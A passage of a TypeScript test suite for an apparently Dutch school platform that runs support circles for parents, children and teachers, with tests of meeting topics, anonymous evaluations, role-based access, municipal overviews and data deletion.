      ...['5', '6', '7', '8'].map((g) => ['grades', g]),
    ])
    const saved = await director.request(`/circles/${id}/settings`, {
      method: 'POST',
      body: settings,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    })
    assert.equal(saved.status, 303)
    assert.deepEqual((await getCircle(db, id))?.grades, [5, 6, 7, 8])
    const ilyas = idOf('child:persona:parent:child1')
    assert.ok((await parent.get(`/circles/${id}/join`)).text.includes(`value="${ilyas}"`))
    assert.ok(!(await parent.get(`/circles/${id}/join`)).text.includes(`value="${amira}"`))
    // And back to groep 6 to 8 for the other tests.
    settings.delete('grades')
    for (const g of ['6', '7', '8']) settings.append('grades', g)
    await director.request(`/circles/${id}/settings`, {
      method: 'POST',
      body: settings,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    })
    assert.deepEqual((await getCircle(db, id))?.grades, [6, 7, 8])
  })
})

describe('meetings', () => {
  it('meeting and attendance tables hold no free text', async () => {
    const tables = [
      'circle_meetings',
      'circle_attendance',
      'circle_evaluations',
      'circle_evaluation_voters',
    ]
    const cols = await sql<{ table_name: string; column_name: string; data_type: string }>`
      select table_name, column_name, data_type from information_schema.columns
      where table_name in (${sql.join(tables)})`.execute(t.deps.db)
    assert.ok(cols.rows.length >= 15)
    const checks = await sql<{ table_name: string; def: string }>`
      select cl.relname as table_name, pg_get_constraintdef(co.oid) as def
      from pg_constraint co join pg_class cl on cl.oid = co.conrelid
      where co.contype = 'c' and cl.relname in (${sql.join(tables)})`.execute(t.deps.db)
    for (const col of cols.rows) {
      if (!/text|char/.test(col.data_type)) continue
      // A text column is allowed only as a closed list of codes.
      const closed = checks.rows.some(
        (c) =>
          c.table_name === col.table_name &&
          c.def.includes(col.column_name) &&
          /= ANY \(ARRAY\[/.test(c.def),
      )
      assert.ok(closed, `${col.table_name}.${col.column_name} could hold free text`)
    }
  })

  it('members propose topics (with or without a name); closing the meeting records attendance and deletes every topic', async () => {
    const id = idOf('circle:ouderkring')
    const member = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('people as p', 'p.id', 'cm.person_id')
      .select(['p.email', 'p.first_name'])
      .where('cm.circle_id', '=', id)
      .where('cm.status', '=', 'confirmed')
      .orderBy('p.email')
      .executeTakeFirstOrThrow()
    const m = await as(member.email)
    const page = await m.get(`/circles/${id}`)
    const action = page.text.match(/action="(\/circles\/[^"]+\/topics)"/)?.[1]
    assert.ok(action, 'a topic form for the next meeting')
    const meetingId = action.split('/')[4] as string
    assert.equal((await m.post(action, { topic: 'Slapen en schermtijd' })).status, 303)
    assert.equal((await m.post(action, { topic: 'Ruzie met opa', anonymous: 'yes' })).status, 303)
    assert.equal((await m.post(action, { topic: '' })).status, 400)
    const stored = await t.deps.db
      .selectFrom('circle_topics')
      .select(['topic', 'member_id'])
      .where('meeting_id', '=', meetingId)
      .execute()
    assert.equal(stored.length, 2)
    assert.equal(stored.find((s) => s.topic === 'Ruzie met opa')?.member_id, null)

    const f = await personas('facilitator')
    const screen = await f.get(`/circles/${id}/meetings/${meetingId}`)
    assert.equal(screen.status, 200)
    const text = visibleText(screen.text)
    assert.match(text, /Alles wat in de kring gezegd wordt, blijft in de kring/)
    // The circle's languages include Arabic and Turkish: the rule is shown in them too.
    assert.match(screen.text, /lang="ar" dir="rtl"/)
    assert.match(screen.text, /lang="tr"/)
    assert.match(text, new RegExp(`Slapen en schermtijd ${member.first_name}`))
    assert.match(text, /Ruzie met opa zonder naam/)
    assert.doesNotMatch(screen.text, /<textarea/, 'no notes field on the meeting screen')
    // A member may not open the meeting screen.
    assert.equal((await m.get(`/circles/${id}/meetings/${meetingId}`)).status, 403)

    assert.equal((await f.post(`/circles/${id}/meetings/${meetingId}/open`)).status, 303)
    const present = [...screen.text.matchAll(/name="present" value="([^"]+)"/g)].map((x) => x[1])
    assert.ok(present.length >= 5)
    const body = new URLSearchParams([
      ['_csrf', f.csrf],
      ...present.slice(0, 3).map((p) => ['present', p as string]),
    ])
    const closed = await f.request(`/circles/${id}/meetings/${meetingId}/close`, {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    })
    assert.equal(closed.status, 303)
    const left = await t.deps.db
      .selectFrom('circle_topics')
      .select('id')
      .where('meeting_id', '=', meetingId)
      .execute()
    assert.equal(left.length, 0, 'topic proposals are gone once the meeting is closed')
    const attendance = await t.deps.db
      .selectFrom('circle_attendance')
      .select(['present'])
      .where('meeting_id', '=', meetingId)
      .execute()
    assert.equal(attendance.filter((a) => a.present).length, 3)
    assert.equal(attendance.length, present.length)
    // A closed meeting takes no more topics.
    assert.equal((await m.post(action, { topic: 'Te laat' })).status, 400)
  })

  it('the day before a meeting, each member and facilitator gets one reminder in their own language', async () => {
    const id = idOf('circle:ouderkring-b')
    const next = await t.deps.db
      .selectFrom('circle_meetings')
      .select(['id', 'starts_at'])
      .where('circle_id', '=', id)
      .where('status', '=', 'planned')
      .orderBy('starts_at')
      .executeTakeFirstOrThrow()
    const dayBefore = new Date(`${addDays(schoolDate(next.starts_at), -1)}T10:00:00Z`)
    const deps = { db: t.deps.db, mailer: t.deps.mailer, baseUrl: 'http://kringwerk.test' }
    const since = new Date()
    const sent = await sendReminders(deps, dayBefore)
    assert.ok(sent > 0)
    assert.equal(await sendReminders(deps, dayBefore), 0, 'never twice')
    const expected = await t.deps.db
      .selectFrom('circle_members')
      .select('person_id')
      .where('circle_id', '=', id)
      .where('status', '=', 'confirmed')
      .union(
        t.deps.db.selectFrom('circle_facilitators').select('person_id').where('circle_id', '=', id),
      )
      .execute()
    const mails = await t.deps.db
      .selectFrom('outbox as o')
      .innerJoin('people as p', 'p.id', 'o.person_id')
      .select(['o.subject', 'o.person_id', 'p.language'])
      .where('o.created_at', '>=', since)
      .where('o.subject', 'like', '%Ouderkring De Vlinderboom%')
      .execute()
    assert.deepEqual(
      mails.map((m) => m.person_id).sort(),
      expected.map((e) => e.person_id).sort(),
      'one reminder for each member and facilitator',
    )
    for (const m of mails)
      assert.equal(
        m.subject,
        translator(m.language)('mail.circle.reminder.subject', {
          circle: 'Ouderkring De Vlinderboom',
        }),
      )
  })
})

describe('evaluation', () => {
  it('answers are anonymous sums; results show only when at least five answered', async () => {
    const id = idOf('circle:leerkrachtkring')
    const ib = await personas('ib')
    assert.equal((await ib.post(`/circles/${id}/evaluations`)).status, 303)
    const twice = await ib.post(`/circles/${id}/evaluations`)
    assert.equal(twice.status, 400, 'one open at a time')
    assert.match(twice.text, /Er staat al een evaluatie open/)
    const evaluation = await t.deps.db
      .selectFrom('circle_evaluations')
      .select('id')
      .where('circle_id', '=', id)
      .where('closed_at', 'is', null)
      .executeTakeFirstOrThrow()
    const members = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('people as p', 'p.id', 'cm.person_id')
      .select(['cm.id', 'p.email'])
      .where('cm.circle_id', '=', id)
      .where('cm.status', '=', 'confirmed')
      .execute()
    assert.equal(members.length, 5)
    const scores = {
      story: '5',
      notJudged: '4',
      tips: '3',
      confidence: '4',
      safe: '5',
      shared: '2',
    }
    for (const m of members.slice(0, 4)) {
      const c = await as(m.email)
      const page = await c.get(`/circles/${id}`)
      assert.match(page.text, /Hoe was de kring voor u/)
      const res = await c.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)
      assert.equal(res.status, 303)
      const twice = await c.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)
      assert.equal(twice.status, 400, 'one answer per person')
      assert.match(twice.text, /al ingevuld/)
    }
    // Who may answer was fixed at opening: a place confirmed afterwards does not count, so
    // nobody can add answers of their own to a running evaluation.
    // (A leerkrachtkring is for the team: the late one is a teacher of the school.)
    const late = await t.deps.db
      .selectFrom('people as p')
      .innerJoin('memberships as m', 'm.person_id', 'p.id')
      .innerJoin('schools as s', 's.id', 'm.school_id')
      .select(['p.id', 'p.email'])
      .where('s.name', '=', 'Basisschool De Regenboog')
      .where('m.role', '=', 'teacher')
      .where((eb) =>
        eb.not(
          eb.exists(
            eb
              .selectFrom('circle_members as cm')
              .select('cm.id')
              .whereRef('cm.person_id', '=', 'p.id')
              .where('cm.circle_id', '=', id),
          ),
        ),
      )
      .where((eb) =>
        eb.not(
          eb.exists(
            eb
              .selectFrom('circle_facilitators as f')
              .select('f.person_id')
              .whereRef('f.person_id', '=', 'p.id')
              .where('f.circle_id', '=', id),
          ),
        ),
      )
      .orderBy('p.email')
      .executeTakeFirstOrThrow()
    const lateClient = await as(late.email)
    await lateClient.post(`/circles/${id}/join`, { for: 'self' })
    const lateRow = await t.deps.db
      .selectFrom('circle_members')
      .select('id')
      .where('circle_id', '=', id)
      .where('person_id', '=', late.id)
      .executeTakeFirstOrThrow()
    assert.equal(
      (await ib.post(`/circles/${id}/members/${lateRow.id}/decide`, { decision: 'confirm' }))
        .status,
      303,
    )
    assert.doesNotMatch((await lateClient.get(`/circles/${id}`)).text, /Hoe was de kring voor u/)
    assert.equal(
      (await lateClient.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)).status,
      404,
    )
    // The facilitator is not asked either.
    assert.equal(
      (await ib.post(`/circles/${id}/evaluations/${evaluation.id}/answer`, scores)).status,
      403,
    )
    // Four answers, closed: hidden.
    assert.equal((await ib.post(`/circles/${id}/evaluations/${evaluation.id}/close`)).status, 303)
    let page = visibleText((await ib.get(`/circles/${id}`)).text)
    assert.match(page, /Minder dan 5 antwoorden/)
    assert.doesNotMatch(page, /Ik kon mijn verhaal vertellen\. 5,0/)
    // A second round with five answers shows the averages.
    await ib.post(`/circles/${id}/evaluations`)
    const second = await t.deps.db
      .selectFrom('circle_evaluations')
      .select('id')
      .where('circle_id', '=', id)
      .where('closed_at', 'is', null)
      .executeTakeFirstOrThrow()
    for (const m of members) {
      const c = await as(m.email)
      await c.post(`/circles/${id}/evaluations/${second.id}/answer`, scores)
    }
    page = visibleText((await ib.get(`/circles/${id}`)).text)
    assert.match(page, /5 antwoorden/, 'still running: no figures yet')
    assert.doesNotMatch(page, /verhaal vertellen\. 5,0/)
    await ib.post(`/circles/${id}/evaluations/${second.id}/close`)
    page = visibleText((await ib.get(`/circles/${id}`)).text)
    assert.match(page, /Ik kon mijn verhaal vertellen\. 5,0/)
    assert.match(page, /Ik voel me mede verantwoordelijk voor de kring\. 2,0/)
    // What is stored: sums and a count, never a row per answer.
    const stored = await t.deps.db
      .selectFrom('circle_evaluations')
      .select(['answers', 'sums'])
      .where('id', '=', second.id)
      .executeTakeFirstOrThrow()
    assert.equal(stored.answers, 5)
    assert.deepEqual(stored.sums, [25, 20, 15, 20, 25, 10])
  })
})

describe('who sees what', () => {
  it('a teacher does not learn which pupils are in a kinderkring', async () => {
    const id = idOf('circle:kinderkring')
    const child = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('children as ch', 'ch.id', 'cm.child_id')
      .innerJoin('group_teachers as gt', 'gt.group_id', 'ch.group_id')
      .innerJoin('people as p', 'p.id', 'gt.person_id')
      .select(['ch.first_name', 'p.email'])
      .where('cm.circle_id', '=', id)
      .where('cm.status', '=', 'confirmed')
      .where('p.email', 'not like', 'facilitator@%')
      .executeTakeFirstOrThrow()
    const teacher = await as(child.email)
    assert.equal((await teacher.get(`/circles/${id}`)).status, 403)
    const list = visibleText((await teacher.get('/circles')).text)
    const join = visibleText((await teacher.get(`/circles/${id}/join`)).text)
    for (const text of [list, join])
      assert.equal(text.includes(child.first_name), false, 'no pupil named in circles pages')
    // The parents of a kinderkring do not see the other children either.
    const parent = await personas('parent')
    const page = await parent.get(`/circles/${id}`)
    assert.equal(page.status, 403, 'a waiting place is not a place in the circle')
  })

  it("a confirmed parent in a children's circle sees their own child, never the others; an adult circle's members see each other; the host sees no one", async () => {
    const db = t.deps.db
    /** The name as a word of its own ("Eva", not the start of "Evaluatie"). */
    const names = (text: string, name: string) =>
      new RegExp(`(?<!\\p{L})${name}(?!\\p{L})`, 'u').test(text)
    const roster = (circleId: string) =>
      db
        .selectFrom('circle_members as cm')
        .innerJoin('people as p', 'p.id', 'cm.person_id')
        .leftJoin('children as ch', 'ch.id', 'cm.child_id')
        .select(['cm.person_id', 'p.email', 'p.first_name', 'ch.first_name as child'])
        .where('cm.circle_id', '=', circleId)
        .where('cm.status', '=', 'confirmed')
        .orderBy('p.email')
        .execute()
    const kinder = idOf('circle:kinderkring')
    const kids = await roster(kinder)
    const parent = kids[0]
    assert.ok(parent?.child && kids.length >= 3, 'confirmed child places in the kinderkring')
    const own = new Set(kids.filter((k) => k.person_id === parent.person_id).map((k) => k.child))
    const page = await (await as(parent.email)).get(`/circles/${kinder}`)
    assert.equal(page.status, 200, 'a confirmed place: the parent is a member')
    const text = visibleText(page.text)
    assert.match(text, new RegExp(`${[...own][0]}: doet mee`), "their own child's place")
    assert.doesNotMatch(text, /Wie doet mee/)
    // Names that the page shows for other reasons (the parent's own, a facilitator's) aside.
    const facilitators = await db
      .selectFrom('circle_facilitators as f')
      .innerJoin('people as p', 'p.id', 'f.person_id')
      .select('p.name')
      .where('f.circle_id', '=', kinder)
      .execute()
    const shownAnyway = (name: string) =>
      own.has(name) || name === parent.first_name || facilitators.some((f) => f.name.includes(name))
    const others = kids
      .filter((k) => k.person_id !== parent.person_id)
      .flatMap((k) => [k.child ?? '', k.first_name])
      .filter((name) => name && !shownAnyway(name))
    assert.ok(others.length >= 2)
    for (const name of others)
      assert.equal(names(text, name), false, `${name} is not named to another parent`)

    // In an adult circle, members see each other's first names.
    const ouder = idOf('circle:ouderkring')
    const adults = await roster(ouder)
    const member = adults[0]
    assert.ok(member && adults.length >= 3)
    const seen = visibleText((await (await as(member.email)).get(`/circles/${ouder}`)).text)
    assert.match(seen, /Wie doet mee/)
    for (const a of adults) assert.ok(names(seen, a.first_name), `${a.first_name} is named`)

    // The host of the kinderkring sees the circle, and none of its children or parents.
    const director = await personas('director')
    const hosted = await director.get(`/circles/${kinder}`)
    assert.equal(hosted.status, 200)
    const hostText = visibleText(hosted.text)
    assert.match(hostText, /Instellingen/)
    assert.doesNotMatch(hostText, /Wie doet mee/)
    const me = await db
      .selectFrom('people')
      .select('first_name')
      .where('id', '=', idOf('person:persona:director'))
      .executeTakeFirstOrThrow()
    const named = kids
      .flatMap((k) => [k.child ?? '', k.first_name])
      .filter((name) => name !== me.first_name && !facilitators.some((f) => f.name.includes(name)))
    assert.ok(named.length >= 3)
    for (const name of named)
      assert.equal(names(hostText, name), false, `${name} is not named to the host`)
  })

  it('the host (director) sets the circle up but sees no members', async () => {
    const id = idOf('circle:ouderkring')
    const d = await personas('director')
    const page = await d.get(`/circles/${id}`)
    assert.equal(page.status, 200)
    assert.match(page.text, /Instellingen/)
    assert.doesNotMatch(page.text, /Wie doet mee/)
    const members = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('people as p', 'p.id', 'cm.person_id')
      .select('p.name')
      .where('cm.circle_id', '=', id)
      .execute()
    const text = visibleText(page.text)
    for (const m of members) assert.equal(text.includes(m.name), false)
    assert.equal(
      (await d.get(`/circles/${id}/meetings/${idOf('meeting:ouderkring:0')}`)).status,
      403,
    )
  })

  it('policy: every role against every circle action', async () => {
    const kring = idOf('circle:ouderkring')
    const meeting = idOf('meeting:ouderkring:8')
    const member = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('people as p', 'p.id', 'cm.person_id')
      .select('p.email')
      .where('cm.circle_id', '=', kring)
      .where('cm.status', '=', 'confirmed')
      .orderBy('p.email', 'desc')
      .executeTakeFirstOrThrow()
    const otherSchool = await t.deps.db
      .selectFrom('people as p')
      .innerJoin('memberships as m', 'm.person_id', 'p.id')
      .innerJoin('schools as s', 's.id', 'm.school_id')
      .select('p.email')
      .where('s.name', '=', 'IKC De Vlinderboom')
      .where('m.role', '=', 'director')
      .executeTakeFirstOrThrow()
    const who: Record<string, () => Promise<Client>> = {
      member: () => as(member.email),
      facilitator: () => personas('facilitator'),
      teacher: () => personas('teacher'),
      ib: () => personas('ib'),
      director: () => personas('director'),
      municipal: () => personas('municipal'),
      otherSchool: () => as(otherSchool.email),
    }
    // Expected status per role for: view circle, meeting screen, settings, overview, register.
    const expected: Record<string, [number, number, number, number, number]> = {
      member: [200, 403, 403, 403, 403],
      facilitator: [200, 200, 403, 403, 403],
      teacher: [403, 403, 403, 403, 403],
      ib: [200, 200, 303, 200, 200], // the demo IB co-facilitates this kring
      director: [200, 403, 303, 200, 200],
      municipal: [403, 403, 403, 200, 200],
      otherSchool: [403, 403, 403, 200, 200],
    }
    for (const [role, make] of Object.entries(who)) {
      const c = await make()
      const got = [
        (await c.get(`/circles/${kring}`)).status,
        (await c.get(`/circles/${kring}/meetings/${meeting}`)).status,
        (
          await c.post(`/circles/${kring}/settings`, {
            capacity: '10',
            status: 'open',
            facilitators: idOf('person:persona:facilitator'),
          })
        ).status,
        (await c.get('/circles/overview')).status,
        (await c.get('/circles/facilitators')).status,
      ]
      assert.deepEqual(got, expected[role], `${role}`)
    }
  })

  it('an autonomous circle is run by its convener, without a facilitator', async () => {
    const id = idOf('circle:mantelzorgkring')
    const f = await personas('brugfiguur')
    const page = await f.get(`/circles/${id}`)
    const convener = page.text.match(/<option value="([0-9a-f-]{36})"[^>]*>([^<]+)<\/option>/)
    assert.ok(convener, 'confirmed members can be chosen as convener')
    const res = await f.post(`/circles/${id}/autonomy`, {
      autonomous: 'yes',
      convenerId: convener[1] as string,
    })
    assert.equal(res.status, 303)
    const conv = await t.deps.db
      .selectFrom('people')
      .select('email')
      .where('id', '=', convener[1] as string)
      .executeTakeFirstOrThrow()
    const c = await as(conv.email)
    const meeting = await t.deps.db
      .selectFrom('circle_meetings')
      .select('id')
      .where('circle_id', '=', id)
      .where('status', '=', 'planned')
      .orderBy('starts_at')
      .executeTakeFirstOrThrow()
    assert.equal((await c.get(`/circles/${id}/meetings/${meeting.id}`)).status, 200)
    // The host may now leave the circle without a facilitator.
    const d = await personas('director')
    const noFac = await d.post(`/circles/${id}/settings`, { capacity: '8', status: 'open' })
    assert.equal(noFac.status, 303)
    // A random parent may not become convener.
    const stranger = await freshParent(3)
    const bad = await f.post(`/circles/${id}/autonomy`, {
      autonomous: 'yes',
      convenerId: stranger.id,
    })
    assert.equal(bad.status, 403, 'the facilitator left: only the convener runs it now')
  })
})

describe('set-up and overview', () => {
  it('a director registers a facilitator and creates a circle with its season', async () => {
    const d = await personas('director')
    const teacher = await t.deps.db
      .selectFrom('people')
      .select(['id', 'name'])
      .where('email', '=', persona('teacher'))
      .executeTakeFirstOrThrow()
    const bad = await d.post('/circles/facilitators', {
      personId: teacher.id,
      training: '',
      trainedOn: 'gisteren',
    })
    assert.equal(bad.status, 400)
    const ok = await d.post('/circles/facilitators', {
      personId: teacher.id,
      training: 'Basistraining kringbegeleider',
      trainedOn: '2026-09-01',
    })
    assert.equal(ok.status, 303)
    assert.match(visibleText((await d.get('/circles/facilitators')).text), new RegExp(teacher.name))
    const invalid = await d.post('/circles', {
      name: 'Kring zonder soort',
      kind: 'eigen',
      place: 'Lokaal 1',
      capacity: '8',
      languages: 'nl',
      firstDate: '2027-01-05',
      time: '08:45',
      duration: '60',
      recurrence: 'weekly',
      count: '4',
    })
    assert.equal(invalid.status, 400)
    assert.match(invalid.text, /Geef de eigen soort een naam/)
    const body = new URLSearchParams([
      ['_csrf', d.csrf],
      ['name', 'Ouderkring groep 1/2'],
      ['kind', 'ouder'],
      ['place', 'Speellokaal'],
      ['capacity', '8'],
      ['languages', 'nl'],
      ['languages', 'pl'],
      ['agreements', 'finish'],
      ['facilitators', teacher.id],
      ['firstDate', '2027-01-05'],
      ['time', '08:45'],
      ['duration', '60'],
      ['recurrence', 'monthly'],
      ['count', '4'],
    ])
    const res = await d.request('/circles', {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    })
    assert.equal(res.status, 303)
    const id = (res.location ?? '').split('/')[2]?.split('?')[0] as string
    const created = await t.deps.db
      .selectFrom('circles')
      .select(['languages', 'agreements', 'audience'])
      .where('id', '=', id)
      .executeTakeFirstOrThrow()
    assert.deepEqual(created, {
      languages: ['nl', 'pl'],
      agreements: ['finish'],
      audience: 'adult',
    })
    const meetings = await t.deps.db
      .selectFrom('circle_meetings')
      .select('starts_at')
      .where('circle_id', '=', id)
      .orderBy('starts_at')
      .execute()
    // The first Tuesday of each month, 08:45 in Amsterdam (07:45 UTC in winter).
    assert.deepEqual(
      meetings.map((m) => m.starts_at.toISOString()),
      [
        '2027-01-05T07:45:00.000Z',
        '2027-02-02T07:45:00.000Z',
        '2027-03-02T07:45:00.000Z',
        '2027-04-06T06:45:00.000Z',
      ],
    )
    // A facilitator outside the register is refused.
    body.set('facilitators', idOf('person:persona:parent'))
    body.set('name', 'Nog een kring')
    const outside = await d.request('/circles', {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    })
    assert.equal(outside.status, 400)
  })

  it('the municipality hosts a bovenschoolse kring for its schools, with its own register', async () => {
    const m = await personas('municipal')
    const form = await m.get('/circles/new')
    assert.equal(form.status, 200)
    // Its register: facilitators trained for the municipality, not a school's.
    assert.match(visibleText(form.text), /Inge Willems/)
    const schools = [...form.text.matchAll(/name="schools" value="([^"]+)"/g)].map((x) => x[1])
    assert.equal(schools.length, 2, 'both schools where the person holds the municipal role')
    const facilitator = idOf('person:persona:facilitator')
    const body = new URLSearchParams([
      ['_csrf', m.csrf],
      ['name', 'Overstapkring voorjaar'],
      ['kind', 'kinder'],
      ['place', 'Bibliotheek'],
      ['capacity', '12'],
      ['languages', 'nl'],
      ['facilitators', facilitator],
      ...schools.map((s) => ['schools', s as string]),
      ['firstDate', '2027-03-04'],
      ['time', '15:00'],
      ['duration', '60'],
      ['recurrence', 'dates'],
      ['count', '1'],
      ['dates', '2027-03-18, 2027-04-01'],
    ])
    const res = await m.request('/circles', {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    })
    assert.equal(res.status, 303)
    const id = (res.location ?? '').split('/')[2]?.split('?')[0] as string
    const circle = await t.deps.db
      .selectFrom('circles')
      .select(['school_id', 'municipality_id', 'audience'])
      .where('id', '=', id)
      .executeTakeFirstOrThrow()
    assert.equal(circle.school_id, null)
    assert.ok(circle.municipality_id)
    assert.equal(circle.audience, 'child')
    const n = await t.deps.db
      .selectFrom('circle_meetings')
      .select((eb) => eb.fn.countAll<string>().as('n'))
      .where('circle_id', '=', id)
      .executeTakeFirstOrThrow()
    assert.equal(Number(n.n), 3)
    // Parents of both schools see it; a director of either school does not host it.
    const d = await personas('director')
    assert.equal((await d.get(`/circles/${id}`)).status, 403)
    assert.match((await (await personas('parent')).get('/circles')).text, /Overstapkring voorjaar/)
  })

  it('the municipality sees counts across its schools, as a chart and a CSV, never a name', async () => {
    const m = await personas('municipal')
    const page = await m.get('/circles/overview')
    assert.equal(page.status, 200)
    assert.match(page.text, /<svg[^>]*role="img"/)
    const text = visibleText(page.text)
    assert.match(text, /Basisschool De Regenboog/)
    assert.match(text, /IKC De Vlinderboom/)
    assert.match(text, /Gemeente Lindenhoeve/)
    const csv = await m.get('/circles/overview.csv')
    assert.equal(csv.status, 200)
    assert.match(csv.headers.get('content-type') ?? '', /text\/csv/)
    const lines = csv.text.trim().split('\n')
    assert.ok(lines.length >= 8)
    // Dutch Excel: ";" between fields, averages with a decimal comma (test/locale.test.ts).
    assert.match(lines[0] ?? '', /^\uFEFF?School of gemeente;Soort;Kringen;Deelnemers/)
    // Ouderkring De Vlinderboom's demo evaluation has 5 answers: its averages are shown.
    assert.ok(
      lines.some((l) => l.startsWith('IKC De Vlinderboom;Ouderkring;1;6;') && /;5;\d,\d/.test(l)),
    )
    // The kinderkring's evaluation had 3 answers: no averages.
    const kinder = lines.find((l) => l.startsWith('Basisschool De Regenboog;Kinderkring;'))
    assert.ok(kinder)
    assert.match(kinder, /;0;+$/)
    const names = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('people as p', 'p.id', 'cm.person_id')
      .leftJoin('children as ch', 'ch.id', 'cm.child_id')
      .select(['p.name', 'p.email', 'ch.first_name'])
      .execute()
    for (const n of names) {
      for (const s of [n.name, n.email, n.first_name]) {
        if (!s || s.length < 4) continue
        assert.equal(text.includes(s), false, `overview shows ${s}`)
        assert.equal(csv.text.includes(s), false, `CSV shows ${s}`)
      }
    }
    // A director sees their own school only.
    const d = await personas('director')
    const own = visibleText((await d.get('/circles/overview')).text)
    assert.doesNotMatch(own, /IKC De Vlinderboom/)
  })
})

describe('no back doors', () => {
  it('a host cannot make themselves a facilitator; every change of facilitators is on record', async () => {
    const d = await personas('director')
    const me = idOf('person:persona:director')
    const self = await d.post('/circles/facilitators', {
      personId: me,
      training: 'Zelf',
      trainedOn: '2026-01-01',
    })
    assert.equal(self.status, 400)
    assert.match(self.text, /twee mensen/)
    const id = idOf('circle:puberkring')
    const facilitator = idOf('person:persona:facilitator')
    const brug = idOf('person:persona:brugfiguur')
    const selfAdd = await d.post(`/circles/${id}/settings`, {
      capacity: '8',
      status: 'open',
      facilitators: me,
    })
    assert.equal(selfAdd.status, 400)
    const body = new URLSearchParams([
      ['_csrf', d.csrf],
      ['capacity', '8'],
      ['status', 'open'],
      ['facilitators', facilitator],
      ['facilitators', brug],
    ])
    const ok = await d.request(`/circles/${id}/settings`, {
      method: 'POST',
      body,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
    })
    assert.equal(ok.status, 303)
    const entry = await t.deps.db
      .selectFrom('audit_log')
      .select('detail')
      .where('action', '=', 'circle.settings')
      .where('subject_id', '=', id)
      .orderBy('at', 'desc')
      .executeTakeFirstOrThrow()
    assert.equal(entry.detail.added, brug)
  })

  it('a convener who leaves no longer runs the circle', async () => {
    const id = idOf('circle:jongerenkring')
    const f = await personas('brugfiguur')
    const page = await f.get(`/circles/${id}`)
    const convener = page.text.match(/<option value="([0-9a-f-]{36})"[^>]*>/)?.[1]
    assert.ok(convener)
    assert.equal(
      (await f.post(`/circles/${id}/autonomy`, { autonomous: 'yes', convenerId: convener })).status,
      303,
    )
    const email = await t.deps.db
      .selectFrom('people')
      .select('email')
      .where('id', '=', convener)
      .executeTakeFirstOrThrow()
    const c = await as(email.email)
    const meeting = await t.deps.db
      .selectFrom('circle_meetings')
      .select('id')
      .where('circle_id', '=', id)
      .where('status', '=', 'planned')
      .orderBy('starts_at')
      .executeTakeFirstOrThrow()
    assert.equal((await c.get(`/circles/${id}/meetings/${meeting.id}`)).status, 200)
    // A convener may not hand the circle on: that is the facilitator's call.
    assert.equal((await c.post(`/circles/${id}/autonomy`, { autonomous: 'no' })).status, 403)
    const place = await t.deps.db
      .selectFrom('circle_members')
      .select('id')
      .where('circle_id', '=', id)
      .where('person_id', '=', convener)
      .executeTakeFirstOrThrow()
    assert.equal((await c.post(`/circles/${id}/leave`, { memberId: place.id })).status, 303)
    assert.equal((await c.get(`/circles/${id}/meetings/${meeting.id}`)).status, 403)
    assert.equal((await c.get(`/circles/${id}`)).status, 403)
    const circle = await t.deps.db
      .selectFrom('circles')
      .select(['autonomous', 'convener_id'])
      .where('id', '=', id)
      .executeTakeFirstOrThrow()
    assert.deepEqual(circle, { autonomous: false, convener_id: null })
  })

  it('topics only for the coming meeting, and forgotten hours after a meeting nobody closed', async () => {
    const id = idOf('circle:leerkrachtkring')
    const member = await t.deps.db
      .selectFrom('circle_members as cm')
      .innerJoin('people as p', 'p.id', 'cm.person_id')
      .select('p.email')
      .where('cm.circle_id', '=', id)
      .where('cm.status', '=', 'confirmed')
      .executeTakeFirstOrThrow()
    const c = await as(member.email)
    const planned = await t.deps.db
      .selectFrom('circle_meetings')
      .select(['id', 'ends_at'])
      .where('circle_id', '=', id)
      .where('status', '=', 'planned')
      .orderBy('starts_at')
      .execute()
    const [next, later] = planned
    assert.ok(next && later)
    const far = await c.post(`/circles/${id}/meetings/${later.id}/topics`, { topic: 'Vooruit' })
    assert.equal(far.status, 400)
    assert.equal(
      (await c.post(`/circles/${id}/meetings/${next.id}/topics`, { topic: 'Werkdruk' })).status,
      303,
    )
    // The meeting passes and nobody closes it: six hours later the topics are gone.
    assert.equal(
      await forgetStaleTopics(t.deps.db, new Date(next.ends_at.getTime() + 3_600_000)),
      0,
    )
    const forgotten = await forgetStaleTopics(
      t.deps.db,
      new Date(next.ends_at.getTime() + 7 * 3_600_000),
    )
    assert.ok(forgotten >= 1)
    const left = await t.deps.db
      .selectFrom('circle_topics')
      .select('id')
      .where('meeting_id', '=', next.id)
      .execute()
    assert.equal(left.length, 0)
  })

  it("a child's place forgotten a year after it ended takes its withdrawn consent along", async () => {
    const db = t.deps.db
    const now = new Date()
    const parent = await db
      .selectFrom('people')
      .select('id')
      .where('email', '=', 'parent@demo.kringwerk.example')
      .executeTakeFirstOrThrow()
    const child = idOf('child:persona:parent:child0')
    const { school_id } = await db
      .selectFrom('children')
      .select('school_id')
      .where('id', '=', child)
      .executeTakeFirstOrThrow()
    const place = await db
      .insertInto('circle_members')
      .values({
        circle_id: idOf('circle:ouderkring'),
        person_id: parent.id,
        child_id: child,
        status: 'left',
        decided_at: new Date(now.getTime() - 400 * 86_400_000),
      })
      .returning('id')
      .executeTakeFirstOrThrow()
    const scope = `circle.child:${place.id}`
    await db
      .insertInto('consents')
      .values({
        school_id,
        person_id: parent.id,
        scope,
        granted_by: parent.id,
        withdrawn_at: new Date(now.getTime() - 400 * 86_400_000),
        withdrawn_by: parent.id,
      })
      .execute()
    assert.ok((await forgetEndedPlaces(db, now)) >= 1)
    const left = await db.selectFrom('consents').select('id').where('scope', '=', scope).execute()
    assert.deepEqual(left, [], 'the consent went with the place')
    const standing = await db
      .selectFrom('consents')
      .select('id')
      .where('withdrawn_at', 'is', null)
      .execute()
